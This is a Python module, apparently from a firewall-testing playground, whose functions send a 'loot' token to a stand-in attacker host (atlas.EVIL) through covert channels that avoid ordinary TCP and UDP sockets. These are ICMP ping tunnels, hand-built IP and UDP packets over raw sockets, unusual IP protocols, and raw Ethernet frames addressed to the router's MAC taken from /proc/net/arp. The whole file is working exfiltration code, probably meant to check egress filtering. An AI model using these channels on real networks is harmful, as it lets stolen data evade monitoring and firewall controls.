"""Ways out that are not TCP or UDP sockets: ICMP, raw and packet sockets, odd protocols, io_uring.

Law: one function a way. Headers are made by hand; checksums that nobody checks on the way are left zero.
"""

from __future__ import annotations

import errno
import socket
import struct
from pathlib import Path

from dnsfw.playground import atlas
from dnsfw.playground.package.way import Loot, Way

_ECHO_REQUEST, _ECHO_REQUEST_V6 = 8, 128
_SCTP, _GRE, _IPIP, _ESP, _FOR_EXPERIMENTS = 132, 47, 4, 50, 253  # IANA protocol-numbers
_ETH_P_IP = 0x0800


def _checksum(data: bytes) -> int:
    """RFC 1071."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data[: len(data) // 2 * 2])) + (
        data[-1] << 8 if len(data) % 2 else 0
    )
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def _echo(kind: int, loot: Loot) -> bytes:
    body = struct.pack("!HH", 7, 1) + loot.token.encode()
    unsummed = struct.pack("!BBH", kind, 0, 0) + body
    return struct.pack("!BBH", kind, 0, _checksum(unsummed)) + body


def ip_packet(protocol: int, payload: bytes) -> bytes:
    """An IPv4 packet from the address that routes to the attacker (RFC 791 section 3.1)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((atlas.EVIL.v4, 9))
        source = socket.inet_aton(probe.getsockname()[0])
    ends = source + socket.inet_aton(atlas.EVIL.v4)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0) + ends
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + payload


def datagram(loot: Loot) -> bytes:
    data = loot.token.encode()
    return struct.pack("!4H", 4444, 4444, 8 + len(data), 0) + data


def ping(loot: Loot) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as sending:
        sending.sendto(_echo(_ECHO_REQUEST, loot), (atlas.EVIL.v4, 0))
        sending.recv(64)


def ping_v6(loot: Loot) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as sending:
        sending.sendto(_echo(_ECHO_REQUEST_V6, loot), (atlas.EVIL.v6, 0))
        sending.recv(64)


def raw_icmp(loot: Loot) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sending:
        sending.sendto(_echo(_ECHO_REQUEST, loot), (atlas.EVIL.v4, 0))


def raw_protocols(loot: Loot) -> None:
    for protocol in (_SCTP, _GRE, _IPIP, _ESP, _FOR_EXPERIMENTS):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sending:
            sending.sendto(loot.token.encode(), (atlas.EVIL.v4, 0))


def raw_datagram(loot: Loot) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sending:
        sending.sendto(ip_packet(socket.IPPROTO_UDP, datagram(loot)), (atlas.EVIL.v4, 0))


def frame(loot: Loot) -> None:
    """Past the whole IP layer: an Ethernet frame to the router's hardware address (packet(7))."""
    router, device = _router()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sending:
        sending.bind((device, _ETH_P_IP))
        head = router + sending.getsockname()[4] + struct.pack("!H", _ETH_P_IP)
        sending.send(head + ip_packet(socket.IPPROTO_UDP, datagram(loot)))


def _router() -> tuple[bytes, str]:
    """The first neighbour that the kernel knows, and the interface it is at (proc_pid_net(5), arp)."""
    for line in Path("/proc/net/arp").read_text(encoding="ascii").splitlines()[1:]:
        _, _, _, hardware, _, device = line.split()
        return bytes.fromhex(hardware.replace(":", "")), device
    raise OSError(errno.EHOSTUNREACH, "no neighbour is known yet")


WAYS = (
    Way("ping4", "ping tunnel, IPv4", (24,), ping),
    Way("ping6", "ping tunnel, IPv6", (24,), ping_v6),
    Way("raw-icmp", "ping tunnel through a raw socket", (24,), raw_icmp),
    Way("raw-udp", "hand-made UDP through a raw socket", (24,), raw_datagram),
    Way("raw-protocols", "SCTP, GRE, IP-in-IP, ESP, raw", (24,), raw_protocols),
    Way("frame", "a frame through a packet socket", (24,), frame),
)
